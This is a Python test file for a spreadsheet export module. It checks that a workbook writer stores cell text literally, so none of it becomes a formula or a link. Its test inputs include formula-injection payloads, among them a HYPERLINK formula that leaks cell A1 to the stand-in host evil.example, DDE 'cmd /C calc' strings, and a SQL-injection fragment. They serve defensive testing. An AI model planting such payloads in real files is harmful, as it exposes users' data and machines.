"""Workbooks hold texts as texts, whatever stands in them."""

import json
import re
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook
from tests.core.scratch import Surroundings

from xiaoneng.core.transfers.rules.sheets import MAX_TEXT, fitting, is_active
from xiaoneng.core.transfers.schemas.sheets import CellKind, Note, SheetColumn
from xiaoneng.core.transfers.service.workbooks import Workbook

HOSTILE = [
    *(sign + "1+1" for sign in "=+-@＝＋－＠\t\r\n|%"),
    '=HYPERLINK("http://evil.example/?"&A1,"看详情")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "http://example.org/",
    "mailto:a@example.org",
    "internal:Sheet1!A1",
    "{=1+1}",
    "00123",
    "1e5",
    "_x0041_",
    "a\x00b\x07c",
    "𠮷野家\u202e",
    "' OR 1=1",
    '"quoted", text',
]
COLUMNS = (SheetColumn("文本", width=20), SheetColumn("数", CellKind.NUMBER), SheetColumn("时间", CellKind.MOMENT))


def _written(path: Path, texts: list[str]) -> list[list[object]]:
    book = Workbook(path, "清单", COLUMNS)
    book.write([[text, 7, datetime(2026, 11, 25, 9, 30, tzinfo=UTC)] for text in texts])
    book.close([Note("事由", "=1+1")])
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name("清单").to_python()


def _payloads() -> list[str]:
    folder = Surroundings().xiaoneng_shared_data / "security"
    if not folder.is_dir():
        return []
    naughty = json.loads((folder / "blns.json").read_text("utf-8"))
    return [*naughty, *(folder / "payloadbox.txt").read_text("utf-8").splitlines()]


def test_nothing_becomes_a_formula_or_a_link(tmp_path: Path) -> None:
    texts = HOSTILE + [text for text in _payloads() if text]
    [_, *rows] = _written(tmp_path / "a.xlsx", texts)
    for text, (read, number, moment) in zip(texts, rows, strict=True):
        assert (number, str(moment)) == (7, "2026-11-25 17:30:00"), "the region's clock"
        assert read == text.replace("\r\n", "\n").replace("\r", "\n") or _escaped(str(read)) == _escaped(text)
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheets = [content for name, content in parts.items() if name.startswith("xl/worksheets/")]
    assert sheets, "there are sheets"
    assert not any(b"<f>" in sheet or b"<f " in sheet or b"hyperlink" in sheet for sheet in sheets)
    assert b'quotePrefix="1"' in parts["xl/styles.xml"]


def _escaped(text: str) -> str:
    """Control characters are written as _xHHHH_, which readers take back in different ways."""
    return "".join(char for char in re.sub("_x[0-9A-F]{4}_", "", text) if char.isprintable())


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "＝1", "\t=1", "\r=1"])
def test_what_a_program_would_run_is_seen(text: str) -> None:
    assert is_active(text)
    assert not is_active("1" + text)


def test_what_does_not_fit_says_so(tmp_path: Path) -> None:
    long = "长" * (MAX_TEXT + 1)
    assert len(fitting(long)) == MAX_TEXT
    assert fitting(long).endswith("此处截断）")
    assert fitting(long[1:]) == long[1:]
    [_, [read, *_]] = _written(tmp_path / "b.xlsx", [long])
    assert read == fitting(long)


def test_days_and_empty_cells(tmp_path: Path) -> None:
    book = Workbook(tmp_path / "c.xlsx", "清单", COLUMNS)
    book.write([[None, None, date(2026, 1, 2)]])
    book.close([])
    [_, row] = CalamineWorkbook.from_path(str(tmp_path / "c.xlsx")).get_sheet_by_index(0).to_python()
    assert row == ["", "", date(2026, 1, 2)]
